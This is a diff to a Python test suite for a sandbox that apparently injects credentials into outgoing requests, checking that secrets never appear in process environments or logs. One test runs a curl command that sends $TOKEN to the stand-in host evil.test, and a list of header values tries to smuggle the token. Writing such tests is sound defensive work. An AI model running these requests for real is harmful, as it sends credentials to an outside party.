@@ -70,6 +70,13 @@ def run(entries, command, **more):
         return result
 
 
+def environ(pid):
+    try:
+        return pathlib.Path(f'/proc/{pid}/environ').read_bytes()
+    except OSError:         # it has just ended
+        return b''
+
+
 def sh(text):
     return ['bash', '-c', text]
 
@@ -128,8 +135,7 @@ class Injected(LabTest):
         with start([entry(from_env='MY_SECRET')], sh('echo up; read x'), env={'MY_SECRET': SECRET}) as box:
             box.wait_out('up')
             for pid in (box.process.pid, *lab.descendants(box.process.pid)):
-                environ = pathlib.Path(f'/proc/{pid}/environ').read_bytes()
-                self.assertNotIn(SECRET.encode(), environ, lab.exe_name(pid))
+                self.assertNotIn(SECRET.encode(), environ(pid), lab.exe_name(pid))
         got = run([entry(from_env='MY_SECRET')], ['true'], env={'MY_SECRET': SECRET}, args=('--env', 'MY_SECRET'))
         self.assertEqual(got.code, 1)
         self.assertRefused(got, '--env MY_SECRET: a credential is taken from that variable')
@@ -156,7 +162,7 @@ class Refused(LabTest):
     def test_placeholders_that_do_not_resolve_or_stand_elsewhere(self):
         canonical = 'openshell:resolve:env:'
         for request in (f'-H "X: {canonical}TOKEN"', f'-H "X: {canonical}v1_TOKEN"', f'-H "X: {canonical}OTHER"',
-                        f'-H "X: {canonical}"', '-H "X: a b $TOKEN"', '-H "$TOKEN: a"',
+                        f'-H "X: {canonical}"', '-H "X: a b $TOKEN"', '-H "$TOKEN: a"', '-X TRACE -H "X: $TOKEN"',
                         '-H "X: key=$TOKEN,$TOKEN"', '-H "X: sk-OPENSHELL-RESOLVE-ENV-TOKEN"',
                         '-H "Cookie: x$TOKEN"'):
             with self.subTest(request=request):
@@ -333,7 +339,7 @@ class Hidden(LabTest):
             holders = {}
             for pid in (box.process.pid, *lab.descendants(box.process.pid)):
                 name = lab.exe_name(pid)
-                self.assertNotIn(SECRET.encode(), pathlib.Path(f'/proc/{pid}/environ').read_bytes())
+                self.assertNotIn(SECRET.encode(), environ(pid))
                 holders[name] = holders.get(name, []) + self.find(pid)
             self.assertEqual(holders.pop('openshell-supervisor-process'), [])
             self.assertEqual(holders.pop('bash'), [])
@@ -377,7 +383,8 @@ class Hidden(LabTest):
     def test_events_of_refusals_name_no_placeholder_and_no_query(self):
         log = f'/run/lab-log-{os.getpid()}'
         self.addCleanup(lambda: os.path.exists(log) and os.unlink(log))
-        got = run([entry(value=SECRET)],
+        with Origin(address=lab.EVIL):
+            got = run([entry(value=SECRET)],
                   sh('curl -sS "http://evil.test/bot$TOKEN/x?key=$TOKEN&q=private-query"'), args=('--log-file', log))
         text = pathlib.Path(log).read_text() + got.err
         self.assertIn('credential', text)
@@ -430,7 +437,7 @@ class Files(LabTest):
         text = ('- name: OPENSHELL_X\n  value: ' + SECRET + '\n  endpoints: [{host: a.test, port: 99999}]\n'
                 '- name: B\n  value: x\n  from_env: Y\n  endpoints: [{host: "*", port: 80}]\n  colour: red\n'
                 '- name: B\n  from_command: [sh]\n  expires_at: tomorrow\n')
-        self.fails(text, ':1:9: ', ':3:34: ', 'exactly one of value', ':7:15: ', 'no such field `colour`',
+        self.fails(text, ':1:9: ', ':3:36: ', 'exactly one of value', ':7:15: ', 'no such field `colour`',
                    'the name stands at an earlier credential too', 'needs endpoints', 'full path',
                    'no point in time')
 
